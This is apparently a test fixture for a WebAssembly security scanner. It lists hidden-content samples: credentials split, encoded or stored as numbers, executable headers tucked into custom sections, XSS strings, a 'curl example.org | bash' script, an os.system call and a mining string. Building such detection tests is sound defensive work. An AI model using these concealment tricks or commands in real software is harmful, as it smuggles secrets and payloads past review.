import { crc32, gzipSync, zstdCompressSync } from 'node:zlib';
import { compile, component, customSection, noise } from '../audited.ts';
import { AWS, data, GITHUB, hex, type Hostile, MEMORY, named, withSection } from './trick.ts';

const inData = (trick: string, rule: string, content: string | Uint8Array): Hostile => ({
  trick,
  rule,
  abi: 'custom',
  module: data(content),
});
const inSection = (trick: string, rule: string, name: string, content: string | Uint8Array): Hostile => ({
  trick,
  rule,
  abi: 'custom',
  module: withSection(name, content),
});
const whole = (trick: string, rule: string, module: Hostile['module'], outcome?: 'reject'): Hostile => ({
  trick,
  rule,
  abi: 'custom',
  module,
  ...(outcome === undefined ? {} : { outcome }),
});

const encoded = Buffer.from(`export TOKEN=${GITHUB} # ${'for the build '.repeat(4)}`).toString('base64');
const ELF = Buffer.from('7f454c46020101000000', 'hex');
/** The stores that a compiler writes for a short string: eight characters, an address before them. */
const stores = Array.from({ length: GITHUB.length / 8 }, (_, index) => {
  const value = Buffer.from(GITHUB).readBigInt64LE(8 * index);
  return `(i64.store offset=${8 * index} (local.get 0) (i64.const ${value}))`;
});
/** The same with vectors of sixteen characters. */
const vectors = Array.from({ length: Math.ceil(GITHUB.length / 16) }, (_, index) => {
  const bytes = Buffer.from(GITHUB.padEnd(48).slice(16 * index, 16 * index + 16));
  return `(v128.store offset=${16 * index} (local.get 0) (v128.const i8x16 ${[...bytes].join(' ')}))`;
});

function tar(): Buffer {
  const header = Buffer.alloc(512);
  header.write('evil.sh', 0);
  header.write('0000755\0', 100);
  header.write('        ', 148);
  header.write('ustar\x0000', 257);
  const sum = header.reduce((total, byte) => total + byte, 0);
  header.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148);
  return header;
}

function rar(): Buffer {
  const header = Buffer.from('0a010506000501018080', 'hex');
  const sized = Buffer.concat([Uint8Array.of(header.length), header]);
  const checksum = Buffer.alloc(4);
  checksum.writeUInt32LE(crc32(sized));
  return Buffer.concat([Buffer.from('526172211a070100', 'hex'), checksum, sized]);
}

const leb = (value: number): number[] => (value < 128 ? [value] : [(value % 128) + 128, ...leb(value >> 7)]);

/** A component that holds a module (1) or component (4), which ends in a custom section. */
async function holding(
  id: 1 | 4,
  content: string | Uint8Array,
  module = '(module (func (export "run")))',
): Promise<Uint8Array> {
  const bare = id === 1 ? await compile(module) : component([]);
  const inner = Buffer.concat([bare, customSection('notes', content)]);
  return Buffer.concat([component([]), Uint8Array.of(id, ...leb(inner.length)), inner]);
}

/** Credentials and payloads, in the places and forms in which they are overlooked. */
export const CARRIED: readonly Hostile[] = [
  whole(
    'a token split over passive segments',
    'ASY310',
    `(module ${MEMORY} (data "${GITHUB.slice(0, 12)}") (data "${GITHUB.slice(12)}") (func (export "run")))`,
  ),
  whole(
    'a token whose segments stand in the wrong order',
    'ASY310',
    `(module ${MEMORY} (data (i32.const 28) "${GITHUB.slice(12)}") (data (i32.const 16) "${GITHUB.slice(0, 12)}"))`,
  ),
  whole(
    'a token that code writes as numbers',
    'ASY310',
    `(module ${MEMORY} (func (export "run") (param i32) ${stores.join('')}))`,
  ),
  whole(
    'a token that code writes as vectors',
    'ASY310',
    `(module ${MEMORY} (func (export "run") (param i32) ${vectors.join('')}))`,
  ),
  whole(
    'the same from the end',
    'ASY310',
    `(module ${MEMORY} (func (export "run") (param i32) ${stores.toReversed().join('')}))`,
  ),
  inData('a token in big-endian UTF-16', 'ASY310', Buffer.from(AWS, 'utf16le').swap16()),
  inData(
    'a token in UTF-32',
    'ASY310',
    Buffer.concat(Array.from(AWS, (one) => Buffer.from([one.charCodeAt(0), 0, 0, 0]))),
  ),
  inData(
    'a token in big-endian UTF-32 behind a letter',
    'ASY310',
    Buffer.concat([Buffer.from('xyz'), ...Array.from(AWS, (one) => Buffer.from([0, 0, 0, one.charCodeAt(0)]))]),
  ),
  inData('a token in hexadecimal', 'ASY310', Buffer.from(GITHUB).toString('hex')),
  inData('a token in base64 of many lines', 'ASY310', encoded.replace(/.{64}/g, '$&\n')),
  inData('a token in base64 in UTF-16', 'ASY310', Buffer.from(encoded, 'utf16le')),
  inData('a token in base64 in base64', 'ASY310', Buffer.from(encoded).toString('base64')),
  inData(
    'a private key',
    'ASY310',
    `-----BEGIN RSA ${'PRIVATE KEY'}-----\n${Buffer.from(noise(200)).toString('base64')}`,
  ),
  inData('a database with its password', 'ASY310', ['postgres://admin', 'h7Kp2mQx9v@db.acme.dev/prod'].join(':')),
  inData('a key of a language model', 'ASY310', `sk-${'proj'}-${Buffer.from(noise(60)).toString('hex')}`),
  whole('a token in the name of an export', 'ASY310', `(module (func (export "${GITHUB}")))`),
  whole(
    'a token in the name of an export, behind a length that is a letter',
    'ASY310',
    `(module (func (export "${'for '.repeat(6)}${GITHUB}")) (func (export "${GITHUB} of ${'z'.repeat(30)}")))`,
  ),
  whole('a token in the name of an imported module', 'ASY310', `(module (import "${GITHUB}" "f" (func)))`),
  inSection(
    'a token in the names of the toolchain',
    'ASY310',
    'producers',
    Uint8Array.from([1, ...named('language'), 1, ...named('C'), ...named(GITHUB)]),
  ),
  inSection(
    'a token in the address of the source map',
    'ASY310',
    'sourceMappingURL',
    Uint8Array.from(named(`https://u:${GITHUB}@maps.acme.dev/x.map`)),
  ),
  inSection('a token in debug data', 'ASY310', '.debug_str', `-DKEY=${AWS} `),
  inSection('a program in debug data', 'ASY50', '.debug_str', ELF),
  inSection('a program in relocations', 'ASY50', 'reloc.CODE', Buffer.concat([Uint8Array.of(2), ELF])),
  inSection('a program deep in a section', 'ASY50', 'notes', Buffer.concat([Buffer.alloc(5000, 65), ELF])),
  inSection('a program in what claims to describe a world', 'ASY50', 'component-type:run', ELF),
  inSection('a compressed stream in a section', 'ASY50', 'notes', gzipSync('payload '.repeat(20))),
  inSection('a document of a viewer', 'ASY50', 'notes', '%PDF-1.7\n'),
  inSection('a picture that runs script', 'ASY50', 'notes', '<svg onload=alert(1)>'),
  inSection('a web page in the name of a section', 'ASY50', '<script>alert(1)</script>', 'x'),
  whole('a program in a section of a module inside a component', 'ASY50', () => holding(1, ELF)),
  whole('a token that code of a module inside a component writes as numbers', 'ASY310', () =>
    holding(1, '', `(module ${MEMORY} (func (export "run") (param i32) ${stores.join('')}))`),
  ),
  whole('a program in a section of a component inside a component', 'ASY50', () => holding(4, ELF)),
  whole('a token in a section of a component inside a component', 'ASY310', () => holding(4, GITHUB)),
  whole('a core module in what claims to describe a world', 'ASY50', async () =>
    withSection('component-type:run', await compile('(module (func (export "x")))'))(),
  ),
  whole('an archive that begins right behind the header', 'ASY50', async () => {
    const module = await compile('(module (func (export "run")))');
    const archive = customSection('a', Buffer.from('504b0304140000000800000000000000', 'hex'));
    return Buffer.concat([module.subarray(0, 8), archive, module.subarray(8)]);
  }),
  whole(
    'a program behind the last section',
    'ASY10',
    async () => Buffer.concat([await compile('(module)'), ELF]),
    'reject',
  ),
  whole('a module split over two segments', 'ASY430', async () => {
    const inner = await compile('(module (func (export "x")))');
    const [head, tail] = [hex(inner.subarray(0, 6)), hex(inner.subarray(6))];
    return compile(`(module ${MEMORY} (data (i32.const 16) "${head}") (data (i32.const 22) "${tail}"))`);
  }),
  whole('a module split over passive segments', 'ASY430', async () => {
    const inner = await compile('(module (func (export "x")))');
    return compile(`(module ${MEMORY} (data "${hex(inner.subarray(0, 6))}") (data "${hex(inner.subarray(6))}"))`);
  }),
  whole('a module in base64', 'ASY430', async () =>
    compile(data(Buffer.from(await compile('(module (memory 1) (func (export "x")))')).toString('base64'))),
  ),
  inData('a program in base64', 'ASY430', Buffer.concat([ELF, Buffer.alloc(60, 1)]).toString('base64')),
  inData(
    'a program in base64 in UTF-16, as AssemblyScript keeps texts',
    'ASY430',
    Buffer.from(Buffer.concat([ELF, Buffer.alloc(60, 1)]).toString('base64'), 'utf16le'),
  ),
  inData('a Windows program', 'ASY430', Buffer.from(`4d5a${'00'.repeat(58)}40000000504500004c01`, 'hex')),
  inData(
    'a Windows program behind more of its letters than are tried',
    'ASY430',
    Buffer.concat([
      Buffer.from('MZ '.repeat(10_100)),
      Buffer.from(`4d5a${'00'.repeat(58)}40000000504500004c01`, 'hex'),
    ]),
  ),
  inData(
    'an archive whose entries ask for no version of the format, as few readers mind',
    'ASY430',
    Buffer.from(
      '504b030400000000000000000000000000000000000000000100000061' +
        '504b010200000000000000000000000000000000000000000000000001000000000000000000000000000000000061' +
        '504b05060000000001000100 2f000000 1f000000 0000'.replaceAll(' ', ''),
      'hex',
    ),
  ),
  inData('a Zstandard stream', 'ASY430', zstdCompressSync(Buffer.from('payload '.repeat(20)))),
  inData('a bzip2 stream', 'ASY430', Buffer.from('425a6839314159265359aabbccdd00000011223344', 'hex')),
  inData('a RAR archive', 'ASY430', rar()),
  inData('a tar archive', 'ASY430', tar()),
  inData('a Java class', 'ASY430', Buffer.from('cafebabe00000034001d0a0006', 'hex')),
  inData('an Android program', 'ASY430', Buffer.from('dex\n035\0aaaaaaaa', 'latin1')),
  inData('a script of another shell', 'ASY430', '#!/usr/bin/env bash\ncurl -s example.org | bash\n'),
  inData(
    'a script that begins with comments',
    'ASY430',
    `#!/usr/bin/python3\n${'# harmless\n'.repeat(30)}import os\nos.system("id")\n`,
  ),
  inData(
    'words of mining beside an onion service',
    'ASY412',
    `cryptonight ${'expyuzz4wqqyqhjn'.repeat(4).slice(0, 56)}.onion`,
  ),
];
